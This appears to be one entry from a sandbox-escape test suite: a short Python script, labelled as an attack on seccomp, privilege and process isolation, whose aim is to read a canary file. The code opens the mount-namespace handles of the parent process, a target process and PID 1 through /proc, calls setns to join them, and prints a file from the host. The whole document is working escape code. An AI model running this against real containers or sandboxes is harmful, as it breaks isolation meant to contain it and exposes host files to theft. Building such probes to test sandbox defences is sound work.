# /// attack
# catalogue = "reading: /proc of the parent"
# layers = ["seccomp", "privileges", "processes"]
# aim = "canary"
# ///
# Joins the mount namespace of every process around it, and then opens the file.

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (os.getppid(), TARGET["pid"], 1):
    try:
        door = os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    except OSError:
        continue
    if libc.setns(door, 0) == 0:
        print(open(TARGET["host"]).read())
try:
    print(open(TARGET["host"]).read())
except OSError as error:
    print(error)
